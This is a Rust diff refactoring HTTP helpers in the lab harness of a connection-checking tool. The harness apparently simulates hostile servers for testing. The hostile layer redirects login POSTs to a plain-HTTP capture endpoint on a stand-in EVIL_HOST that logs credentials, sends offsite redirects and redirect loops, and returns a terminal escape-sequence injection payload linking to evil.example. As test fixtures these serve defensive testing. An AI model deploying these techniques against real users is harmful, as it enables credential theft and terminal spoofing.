@@ -2,10 +2,12 @@
 //! start-up, an HTTPS proxy routing by SNI/Host to a Django-REST-style API and a React-style
 //! frontend, and a plain-HTTP side. Used by `conncheck demo`, `conncheck lab` and the tests.
 
+pub mod auth;
 pub mod django;
 pub mod dns;
 pub mod frontend;
 pub mod hostile;
+pub mod http;
 pub mod pki;
 pub mod scenarios;
 pub mod server;
@@ -15,8 +17,9 @@ use crate::cli::RunArgs;
 use crate::net::dns::Rr;
 use crate::target::Credentials;
 use anyhow::{Context as _, Result};
+use http::LabRequest;
 use scenarios::Scenario;
-use server::{LabRequest, LogEntry};
+use server::LogEntry;
 use std::collections::HashMap;
 use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 use std::path::PathBuf;
@@ -87,10 +90,10 @@ pub fn expand_port(s: &str, port: u16) -> String {
 }
 
 /// Dispatch a request to the app that owns its host.
-pub async fn route(state: &LabState, req: LabRequest) -> http::Response<server::Body> {
+pub async fn route(state: &LabState, req: LabRequest) -> ::http::Response<http::Body> {
     let s = &state.scenario;
     if req.path == "/r1.der" && req.host == "ca.lab.test" {
-        return server::respond(
+        return http::respond(
             200,
             &[("content-type", "application/pkix-cert".into())],
             state.intermediate_der.clone(),
@@ -106,7 +109,7 @@ pub async fn route(state: &LabState, req: LabRequest) -> http::Response<server::
             loc.push('?');
             loc.push_str(q);
         }
-        return server::respond(
+        return http::respond(
             301,
             &[("location", loc), ("content-type", "text/html".into())],
             "",
@@ -117,7 +120,7 @@ pub async fn route(state: &LabState, req: LabRequest) -> http::Response<server::
     } else if req.host == s.names.apex || s.names.www.as_deref() == Some(req.host.as_str()) {
         frontend::handle(state, &req)
     } else {
-        server::respond(
+        http::respond(
             404,
             &[("content-type", "text/html".into())],
             format!(
@@ -129,7 +132,7 @@ pub async fn route(state: &LabState, req: LabRequest) -> http::Response<server::
 }
 
 /// The hostile HTTP layer in front of the apps (scenarios `hostile-*`).
-fn hostile_http(state: &LabState, req: &LabRequest) -> Option<http::Response<server::Body>> {
+fn hostile_http(state: &LabState, req: &LabRequest) -> Option<::http::Response<http::Body>> {
     let h = &state.scenario.hostile_http;
     let s = &state.scenario;
     let is_api = req.host == s.names.api;
@@ -141,7 +144,7 @@ fn hostile_http(state: &LabState, req: &LabRequest) -> Option<http::Response<ser
         }
         seen.push_str(&format!(" body={}", String::from_utf8_lossy(&req.body)));
         state.captured.lock().unwrap().push(seen);
-        return Some(server::respond(
+        return Some(http::respond(
             200,
             &[("content-type", "text/plain".into())],
             "captured",
@@ -159,11 +162,11 @@ fn hostile_http(state: &LabState, req: &LabRequest) -> Option<http::Response<ser
         } else {
             "application/javascript"
         };
-        return Some(server::respond_stream(200, ct, 1 << 30));
+        return Some(http::respond_stream(200, ct, 1 << 30));
     }
     if h.redirect_loop
         && req.https
-        && req.method != http::Method::OPTIONS
+        && req.method != ::http::Method::OPTIONS
         && (is_api || (is_front && req.path == "/"))
     {
         let next = if req.path.ends_with("/loop/") {
@@ -171,23 +174,23 @@ fn hostile_http(state: &LabState, req: &LabRequest) -> Option<http::Response<ser
         } else {
             format!("{}loop/", req.path)
         };
-        return Some(server::respond(302, &[("location", next)], ""));
+        return Some(http::respond(302, &[("location", next)], ""));
     }
-    if h.offsite && req.https && is_api && req.method != http::Method::OPTIONS {
+    if h.offsite && req.https && is_api && req.method != ::http::Method::OPTIONS {
         let loc = format!("{}{}", state.https_url(EVIL_HOST), req.path);
-        return Some(server::respond(307, &[("location", loc)], ""));
+        return Some(http::respond(307, &[("location", loc)], ""));
     }
     if h.login_to_http
         && is_api
-        && req.method == http::Method::POST
+        && req.method == ::http::Method::POST
         && req.path.ends_with("/auth/login/")
     {
         let loc = format!("http://{EVIL_HOST}:{}/capture", state.http_port);
-        return Some(server::respond(307, &[("location", loc)], ""));
+        return Some(http::respond(307, &[("location", loc)], ""));
     }
     if let (Some(bad), true) = (
         h.bad_json,
-        is_api && req.method == http::Method::POST && req.path.ends_with("/auth/login/"),
+        is_api && req.method == ::http::Method::POST && req.path.ends_with("/auth/login/"),
     ) {
         let body: Vec<u8> = match bad {
             scenarios::BadJson::Invalid => {
@@ -203,15 +206,15 @@ fn hostile_http(state: &LabState, req: &LabRequest) -> Option<http::Response<ser
                 b"{\"access\": 12345, \"refresh\": [\"not\", \"a\", \"token\"]}".to_vec()
             }
         };
-        return Some(server::respond(
+        return Some(http::respond(
             200,
             &[("content-type", "application/json".into())],
             body,
         ));
     }
-    if h.escape && req.https && is_api && req.method != http::Method::OPTIONS {
+    if h.escape && req.https && is_api && req.method != ::http::Method::OPTIONS {
         let body = serde_json::json!({"detail": "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mYOU HAVE BEEN HACKED\u{1b}[0m\r\u{8}\u{8}ok", "code": "\u{1b}]8;;http://evil.example/\u{7}click\u{1b}]8;;\u{7}"});
-        return Some(server::respond(
+        return Some(http::respond(
             418,
             &[
                 ("content-type", "application/json".into()),
